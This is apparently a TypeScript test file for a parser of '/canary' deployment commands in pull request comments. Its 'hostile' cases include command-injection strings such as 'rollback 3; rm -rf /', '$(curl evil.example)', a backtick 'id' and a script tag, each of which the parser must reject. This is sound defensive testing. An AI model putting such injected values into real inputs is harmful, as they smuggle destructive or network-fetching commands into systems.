import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { parseComment } from '../../src/config/comment-command.ts';

describe('a pull request comment', () => {
  const commands: [string, unknown][] = [
    ['/canary promote', { kind: 'promote' }],
    ['/canary abort', { kind: 'abort' }],
    ['/canary status', { kind: 'status' }],
    ['/canary rollback', { kind: 'rollback', toRevision: undefined }],
    ['/canary rollback 3', { kind: 'rollback', toRevision: 3 }],
    ['LGTM, the canary looks fine.\n\n/canary promote\nthanks', { kind: 'promote' }],
    ['  /canary   promote  ', { kind: 'promote' }],
    ['/canary promote\r\n', { kind: 'promote' }],
    ['```\n/canary abort\n```\n/canary status', { kind: 'status' }],
    ['<!-- hidden -->/canary promote', { kind: 'promote' }],
    ['<!--\n/canary abort\n-->\n/canary status', { kind: 'status' }],
  ];
  for (const [body, command] of commands) {
    it(`reads ${JSON.stringify(body)} as ${JSON.stringify(command)}`, () => {
      assert.deepEqual(parseComment(body), { kind: 'command', command });
    });
  }

  for (const body of [
    'LGTM',
    '',
    'please /canary promote',
    '`/canary promote`',
    '/canaryx promote',
    '> /canary promote',
    '```\n/canary abort\n```',
    'See:\n~~~~\n/canary rollback\n~~~~',
    '```sh\n/canary abort\n~~~\n/canary abort\n```',
    '<!-- /canary abort -->',
    '<!--\n/canary rollback\n-->',
    '    /canary abort',
    '\t/canary abort',
    '> quoted\n> /canary abort',
  ]) {
    it(`ignores ${JSON.stringify(body)}: not addressed to the action`, () => {
      assert.deepEqual(parseComment(body), { kind: 'none' });
    });
  }

  const hostile: [string, RegExp][] = [
    ['/canary deploy', /"deploy" is not a command/],
    ['/canary', /needs a command/],
    ['/canary promote now', /takes no argument/],
    ['/canary rollback 3; rm -rf /', /takes one revision number.*not "3; rm -rf \/"/],
    ['/canary rollback $(curl evil.example)', /takes one revision number/],
    ['/canary rollback `id`', /takes one revision number/],
    ['/canary rollback 0', /takes one revision number/],
    ['/canary rollback -1', /takes one revision number/],
    ['/canary rollback 99999999999', /takes one revision number/],
    ['/canary rollback 3 4', /takes one revision number/],
    ['/canary <script>alert(1)</script>', /is not a command/],
    ['/canary promote\u202e', /is not a command|takes no argument/],
    [`/canary ${'x'.repeat(10_000)}`, /"x{40}…" is not a command/],
  ];
  for (const [body, problem] of hostile) {
    it(`refuses ${JSON.stringify(body.slice(0, 60))} with one answer`, () => {
      const parsed = parseComment(body);
      assert.equal(parsed.kind, 'invalid');
      assert.match(parsed.kind === 'invalid' ? parsed.problem : '', problem);
    });
  }

  it('reads only the first 100 lines of a huge body', () => {
    assert.deepEqual(parseComment(`${'noise\n'.repeat(200)}/canary promote`), { kind: 'none' });
  });
});
